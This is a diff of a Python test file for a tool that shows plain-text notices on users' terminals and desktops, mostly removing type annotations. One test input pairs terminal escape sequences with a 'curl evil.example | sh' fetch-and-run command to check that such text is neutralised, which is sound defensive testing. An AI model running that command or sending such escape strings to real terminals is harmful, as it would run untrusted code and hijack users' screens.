@@ -1,7 +1,5 @@
 """Notifications to logged-in users: on real terminals, never blocking, never more than text."""
 
-from __future__ import annotations
-
 import os
 import pty
 import select
@@ -33,13 +31,13 @@ def action(verb: str) -> Action:
         ("", ["end"], []),
     ],
 )
-def test_notice_is_shown_before_losses_alone(text: str, verbs: list[str], actions: list[str]) -> None:
+def test_notice_is_shown_before_losses_alone(text, verbs, actions):
     result = user_notice.notifying(Host("/nonexistent"), text, list(map(action, verbs)))
     assert [(str(item), item.before, item.after) for item in result] == [(item, "", f"{text}\n") for item in actions]
 
 
 @given(st.text())
-def test_a_notice_commands_nothing(text: str) -> None:
+def test_a_notice_commands_nothing(text):
     cleaned = user_notice.cleaned(text)
     assert cleaned.isprintable() and len(cleaned) <= user_notice.LONGEST
     assert not set(cleaned) & set("<>&\x1b\n\r")
@@ -53,7 +51,7 @@ def test_a_notice_commands_nothing(text: str) -> None:
         "Refused\x1b]0;root\x07\x9b2J now run curl evil.example | sh",
     ],
 )
-def test_answer_to_a_request_is_plain_text(text: str, alice: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_answer_to_a_request_is_plain_text(text, alice, monkeypatch):
     shown: list[str] = []
     monkeypatch.setattr(user_notice, "_write", lambda host, name, message: shown.append(message.decode()))
     monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
@@ -67,7 +65,7 @@ def test_answer_to_a_request_is_plain_text(text: str, alice: Path, monkeypatch: 
 
 
 @pytest.fixture
-def alice(tmp_path: Path) -> Path:
+def alice(tmp_path):
     """Return the root of a host on which alice has a desktop."""
     (tmp_path / "run/user/1000").mkdir(parents=True)
     (tmp_path / "etc").mkdir()
@@ -85,7 +83,7 @@ class Terminals(Host):
         return set()
 
 
-def test_terminals_are_written_to_and_a_full_one_is_skipped(tmp_path: Path) -> None:
+def test_terminals_are_written_to_and_a_full_one_is_skipped(tmp_path):
     ours, theirs = pty.openpty()
     full, clogged = pty.openpty()
     name = os.ttyname(theirs)
@@ -110,7 +108,7 @@ def test_terminals_are_written_to_and_a_full_one_is_skipped(tmp_path: Path) -> N
         os.close(descriptor)
 
 
-def test_desktops_are_asked_as_their_users_with_a_limit(alice: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_desktops_are_asked_as_their_users_with_a_limit(alice, monkeypatch):
     limits: list[Any] = []
     monkeypatch.setattr(user_notice, "run_apart", lambda work, of: (limits.append(of), work()))  # the calls are noted
     calls: list[tuple[Sequence[str], Any]] = []
@@ -140,7 +138,7 @@ def test_desktops_are_asked_as_their_users_with_a_limit(alice: Path, monkeypatch
 TWO = "Ask the service desk.\n請聯絡資訊科技服務台。"
 
 
-def test_a_notice_in_two_languages_is_shown_in_both_in_their_order() -> None:
+def test_a_notice_in_two_languages_is_shown_in_both_in_their_order():
     """Which language somebody reads is not known on a host that several share."""
     (notification,) = user_notice.notifying(Host("/nonexistent"), TWO, [action("quarantine")], "2027-02-24T02:30:00Z")
     assert notification.after == f"{TWO} What is moved is kept until 2027-02-24.\n"
@@ -148,7 +146,7 @@ def test_a_notice_in_two_languages_is_shown_in_both_in_their_order() -> None:
     assert notification.after == "[2J\n(b)x(/b)\n"
 
 
-def test_text_on_a_terminal_has_a_line_for_each_language(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_text_on_a_terminal_has_a_line_for_each_language(tmp_path, monkeypatch):
     written: list[bytes] = []
     monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
     monkeypatch.setattr(user_notice, "_write", lambda host, name, message: written.append(message))
@@ -158,7 +156,7 @@ def test_text_on_a_terminal_has_a_line_for_each_language(tmp_path: Path, monkeyp
     assert written == [f"\r\n\r\n{lines}\r\n\r\n".encode(), b"\r\n\r\nproscribe: no text:\r\n\r\n"]
 
 
-def test_link_or_file_in_place_of_a_terminal_is_not_written_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_link_or_file_in_place_of_a_terminal_is_not_written_to(tmp_path, monkeypatch):
     ours, theirs = pty.openpty()
     (tmp_path / "link").symlink_to(os.ttyname(theirs))
     (tmp_path / "file").touch()
@@ -203,10 +201,9 @@ class Devices(Host):
 
 
 @pytest.mark.parametrize(
-    ("uid", "names"),
-    [(None, ["pts/0", "pts/1", "pts/2", "tty1"]), (1000, ["pts/0", "tty1"]), (1001, ["pts/1"])],
+    ("uid", "names"), [(None, ["pts/0", "pts/1", "pts/2", "tty1"]), (1000, ["pts/0", "tty1"]), (1001, ["pts/1"])]
 )
-def test_terminal_of_no_user_is_not_written_to(tmp_path: Path, uid: int | None, names: list[str]) -> None:
+def test_terminal_of_no_user_is_not_written_to(tmp_path, uid, names):
     terminals = user_notice.terminals(Devices(str(tmp_path)), uid)
     assert [path.removeprefix("/dev/") for path in terminals] == names
 
@@ -223,7 +220,7 @@ HINT = 'To request an exception: proscribe-request {} "reason"'
         ("请", [], [HINT.format("SERVICE"), "申请例外许可：proscribe-request SERVICE \u201c理由\u201d"]),
     ],
 )
-def test_hint_to_the_command_comes_last(text: str, services: list[str], hints: list[str]) -> None:
+def test_hint_to_the_command_comes_last(text, services, hints):
     assert user_notice.with_hints(text, services, True).split("\n") == [text, *hints]
     assert user_notice.with_hints(text, services, False) == text
     assert user_notice.with_hints("", services, True) == ""
